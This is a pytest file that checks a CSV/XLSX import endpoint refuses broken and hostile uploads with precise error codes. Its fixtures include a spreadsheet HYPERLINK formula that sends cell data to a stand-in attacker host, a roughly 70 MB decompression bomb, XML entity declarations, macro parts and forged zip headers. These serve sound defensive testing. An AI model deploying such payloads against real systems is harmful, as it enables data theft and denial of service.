"""Sloppy and hostile files: a clear error each, by row and column, and nothing is kept."""

import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
import pytest_asyncio
from openpyxl import Workbook

from tests.exchange import CSV, HEADER, ROW, XLSX, as_csv, as_xlsx, repacked, report, wrong
from tests.scenes import stranger
from tests.unchanged import unchanged
from tests.world import Api, World

WHOLE = as_xlsx(HEADER, ROW)
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 64 + b'">]>'


@pytest_asyncio.fixture(scope="module")
async def api(world: World) -> Api:
    return await stranger(world)


async def refused(world: World, api: Api, content: bytes, type: str = CSV) -> Any:
    """What is wrong with a file that is sent to be kept; nothing is."""
    async with unchanged(world):
        told = await report(api, content, type=type, dry=False)
    assert told["applied"] is False
    return wrong(told)


@pytest.mark.parametrize(
    "content",
    [
        as_csv(HEADER, ROW),
        as_csv(HEADER, ROW, delimiter=";"),
        as_csv(HEADER, ROW, delimiter="\t"),
        b"\xef\xbb\xbf" + as_csv(HEADER, ROW),
        b"sep=;\r\n" + as_csv(HEADER, ROW, delimiter=";"),
        as_csv([], HEADER, [], ["", ""], ROW, []),
        as_csv([f"  {name.upper()} " for name in HEADER], [f" {cell} " for cell in ROW]),
        as_csv(["reference", "kind", "title", "Starts at", "ends_at"], ROW[:5]),
        as_csv([*HEADER, "", ""], [*ROW, "", " "]),
    ],
)
async def test_sloppy_but_clear(api: Api, content: bytes) -> None:
    told = await report(api, content)
    assert (told["created"], told["problems"]) == (1, [])


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", (None, None, "NO_ROWS")),
        (b"\n\n ; ;\n", (None, None, "NO_ROWS")),
        (as_csv(HEADER), (1, None, "NO_ROWS")),
        (as_csv(HEADER, ROW).decode().encode("utf-16"), (None, None, "WRONG_ENCODING")),
        (as_csv(HEADER, ROW).decode().encode("utf-16-le"), (None, None, "WRONG_ENCODING")),
        (as_csv(HEADER, [*ROW[:2], "Café", *ROW[3:]]).decode().encode("latin-1"),
         (2, None, "WRONG_ENCODING")),
        (as_csv(HEADER, ROW) + b'K-2,"open\n', (3, None, "NOT_A_TABLE")),
        (as_csv(HEADER, ROW) + b'K-2,"a"b\n', (3, None, "NOT_A_TABLE")),
        (as_csv([*HEADER, "Judul"], [*ROW, "x"]), (1, "H", "HEADER_TWICE")),
        (as_csv([*HEADER, "Title"], [*ROW, "x"]), (1, "H", "HEADER_TWICE")),
        (as_csv([*HEADER, "Warna"], [*ROW, "x"]), (1, "H", "HEADER_UNKNOWN")),
        (as_csv(HEADER, [*ROW, "", "lebih"]), (2, "I", "BEYOND_THE_HEADER")),
        (as_csv(HEADER, ["K\x07", *ROW[1:]]), (2, "A", "CONTROL_CHARACTER")),
        (as_csv(HEADER, [*ROW, *["x"] * 60]), (2, None, "TOO_MANY_COLUMNS")),
        (as_csv(HEADER, [*ROW[:2], "x" * 50_000, *ROW[3:]]), (2, None, "NOT_A_TABLE")),
        (as_csv(HEADER, ["x" * 201, *ROW[1:]]), (2, "Nomor rujukan", "TOO_LONG")),
        (WHOLE, (None, None, "WRONG_ENCODING")),
    ],
)  # fmt: skip
async def test_refused_csv(world: World, api: Api, content: bytes, expected: Any) -> None:
    found = await refused(world, api, content)
    assert expected in found
    assert len(found) == 1


def merge(book: Workbook) -> None:
    book.worksheets[0].merge_cells("C2:D2")


def formula(book: Workbook) -> None:
    book.worksheets[0]["C2"] = '=HYPERLINK("https://jahat.example?"&A1,"x")'


def hide_row(book: Workbook) -> None:
    book.worksheets[0].row_dimensions[2].hidden = True


def hide_column(book: Workbook) -> None:
    book.worksheets[0].column_dimensions["C"].hidden = True


def second_sheet(book: Workbook) -> None:
    book.create_sheet("Lain").append(["x"])


def hidden_sheet(book: Workbook) -> None:
    second_sheet(book)
    book.worksheets[1].sheet_state = "veryHidden"


def error(book: Workbook) -> None:
    book.worksheets[0]["C2"] = "#REF!"


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (merge, (2, "C", "MERGED_CELLS")),
        (formula, (2, "C", "FORMULA")),
        (hide_row, (2, None, "HIDDEN")),
        (hide_column, (None, "C", "HIDDEN")),
        (second_sheet, (None, "Lain", "SEVERAL_SHEETS")),
        (hidden_sheet, (None, "Lain", "HIDDEN")),
        (error, (2, "C", "CELL_ERROR")),
    ],
)
async def test_workbooks_that_hide_or_reckon(
    world: World, api: Api, change: Callable[[Workbook], None], expected: Any
) -> None:
    assert expected in await refused(world, api, as_xlsx(HEADER, ROW, change=change), XLSX)


def bomb() -> bytes:
    return repacked(WHOLE, xl__media__big_xml=b"<a>" + b" " * 70_000_000 + b"</a>")


def far_cell(place: bytes) -> Callable[[bytes], bytes]:
    """A sheet whose last cell stands somewhere absurd."""
    row = place.lstrip(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    more = b'<row r="' + row + b'"><c r="' + place + b'" t="inlineStr"><is><t>x</t></is></c></row>'
    return lambda sheet: sheet.replace(b"</sheetData>", more + b"</sheetData>")


def locked() -> bytes:
    """A zip whose parts claim to be encrypted."""
    content = bytearray(WHOLE)
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def in_utf_16(part: bytes) -> bytes:
    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (lambda: b"PK\x03\x04 broken", "NOT_A_TABLE"),
        (lambda: as_csv(HEADER, ROW), "NOT_A_TABLE"),
        (lambda: b"", "NOT_A_TABLE"),
        (lambda: WHOLE[:-200], "NOT_A_TABLE"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), "ENCRYPTED"),
        (locked, "ENCRYPTED"),
        (lambda: repacked(WHOLE, xl__vbaProject_bin=b"x"), "MACROS"),
        (lambda: repacked(WHOLE, **{"[Content_Types]_xml": lambda part: part.replace(
            b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main")}), "MACROS"),
        (bomb, "UNPACKS_TOO_LARGE"),
        (lambda: repacked(WHOLE, **{f"xl__x{n}_xml": b"<a/>" for n in range(400)}),
         "UNPACKS_TOO_LARGE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=lambda part: DTD + part), "ENTITIES"),
        (lambda: repacked(WHOLE, xl__theme__theme1_xml=lambda part: DTD + part), "ENTITIES"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=in_utf_16), "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=lambda part: part[:300]),
         "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__workbook_xml=b"<x/>"), "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=far_cell(b"A99999999")),
         "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=far_cell(b"AAAA3")), "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=far_cell(b"XFD3")),
         "TOO_MANY_COLUMNS"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=far_cell(b"A1048576")),
         "TOO_MANY_ROWS"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=lambda part: part.replace(
            b"</sheetData>", b"<row/>" * 100_001 + b"</sheetData>")), "TOO_MANY_ROWS"),
        (lambda: repacked(WHOLE, xl__styles_xml=lambda part: part.replace(
            b"</cellXfs>", b"<xf/>" * 60_000 + b"</cellXfs>")), "UNPACKS_TOO_LARGE"),
        (lambda: repacked(WHOLE, xl__other_bin=b"<a/>" * 60_000), "UNPACKS_TOO_LARGE"),
        # What openpyxl would pass over without a word: a row or a cell that stands there twice.
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=far_cell(b"A2")), "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=lambda part: part.replace(
            b'<c r="B2"', b'<c r="A2"')), "NOT_A_TABLE"),
        (lambda: repacked(WHOLE, xl__worksheets__sheet1_xml=lambda part: part.replace(
            b'<c r="B2"', b'<c r="B9"')), "NOT_A_TABLE"),
    ],
)  # fmt: skip
async def test_files_that_are_no_workbook_or_would_be_a_weapon(
    world: World, api: Api, content: Callable[[], bytes], code: str
) -> None:
    found = await refused(world, api, content(), XLSX)
    assert [problem[2] for problem in found] == [code]


@pytest.mark.parametrize(
    ("number", "code"), [(b"1E999", "CELL_ERROR"), (b"1E300", "BAD_INPUT"), (b"1E30", "BAD_INPUT")]
)
async def test_numbers_without_measure_are_wrong_cells(
    world: World, api: Api, number: bytes, code: str
) -> None:
    whole = as_xlsx(HEADER, [*ROW[:-1], 424242])
    content = repacked(
        whole, xl__worksheets__sheet1_xml=lambda part: part.replace(b"424242", number)
    )
    [problem] = await refused(world, api, content, XLSX)
    assert (problem[0], problem[2]) == (2, code)


async def test_a_size_that_lies_is_no_way_in(world: World, api: Api) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("[Content_Types].xml", b" " * 100_000)
    content = bytearray(out.getvalue())
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    found = await refused(world, api, bytes(content), XLSX)
    assert [problem[2] for problem in found] == ["NOT_A_TABLE"]


async def test_a_far_row_keeps_its_number_and_dates_are_read_as_they_are(api: Api) -> None:
    def far(book: Workbook) -> None:
        sheet = book.worksheets[0]
        sheet["A1000"], sheet["B1000"], sheet["C1000"] = 1001, "Advokasi kebijakan", "Jauh"
        sheet["D1000"] = datetime(2026, 12, 31, 9, 30)
        sheet["E1000"] = 46_388  # a day as Excel counts them: 1 January 2027
        sheet["G1000"] = 32.7

    told = await report(api, as_xlsx(HEADER, ROW, change=far), type=XLSX, dry=False)
    assert [row["row"] for row in told["rows"]] == [2, 1000]
    seen = await api.data(
        "query($id: ID!) { jointActivity(id: $id) { startsAt endsAt regionCode } }",
        id=told["rows"][1]["id"],
    )
    found = seen["jointActivity"]
    assert found["regionCode"] == "32.70"
    starts, ends = (datetime.fromisoformat(found[key]) for key in ("startsAt", "endsAt"))
    assert (starts, ends) == (
        datetime(2026, 12, 31, 2, 30, tzinfo=UTC), datetime(2027, 1, 1, 16, 59, tzinfo=UTC),
    )  # fmt: skip
